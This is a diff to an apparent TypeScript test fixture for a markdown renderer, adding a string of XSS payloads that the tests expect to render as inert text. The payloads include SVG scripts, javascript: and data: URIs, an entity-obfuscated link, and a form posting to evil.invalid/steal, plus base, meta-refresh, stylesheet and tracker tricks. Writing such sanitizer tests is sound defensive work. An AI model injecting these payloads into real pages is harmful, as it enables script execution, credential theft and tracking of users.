@@ -65,6 +65,37 @@ export const XSS_ANSWER = [
   'Math that tries a link: $\\href{javascript:window.__pwned=1}{x}$',
 ].join('\n');
 
+/**
+ * More untrusted output: markup that is not script but still acts (submits, navigates, re-bases
+ * links, loads styles, embeds documents), SVG with a script inside, and URL tricks in markdown
+ * itself. Every host is under `.invalid`, so nothing could leave the machine even if it rendered.
+ */
+export const XSS_MORE = [
+  'More HTML that must stay text:',
+  '',
+  '<svg xmlns="http://www.w3.org/2000/svg"><script>window.__pwned=2</script><circle r="9" onclick="window.__pwned=2"/></svg>',
+  '',
+  '<object data="javascript:window.__pwned=3"></object> <embed src="data:text/html,<script>parent.__pwned=4</script>">',
+  '',
+  '<form action="https://evil.invalid/steal" method="post"><input name="k" value="x"><button>Send it</button></form>',
+  '',
+  '<meta http-equiv="refresh" content="0;url=https://evil.invalid/">',
+  '',
+  '<base href="https://evil.invalid/">',
+  '',
+  '<style>@import url("https://evil.invalid/x.css"); body { display: none }</style>',
+  '',
+  '<link rel="stylesheet" href="https://evil.invalid/y.css"> <iframe srcdoc="<script>parent.__pwned=5</script>"></iframe>',
+  '',
+  '<details open ontoggle="window.__pwned=6"><summary>toggle</summary></details> <a href="javascript:window.__pwned=7">raw anchor</a>',
+  '',
+  'Markdown tricks: ![img js](javascript:window.__pwned=8) and [entity js](jav&#x61;script:window.__pwned=9) and <javascript:window.__pwned=10> and [ref js][r].',
+  '',
+  '[r]: javascript:window.__pwned=11',
+  '',
+  'A relative link [here](/?token=steal) and ![tracker](https://tracker.invalid/t.gif).',
+].join('\n');
+
 /** A long answer (~60 KB): prose, a list, a table and a 600-line TypeScript fence in the middle. */
 export function longAnswer(): string {
   const prose = (i: number) =>
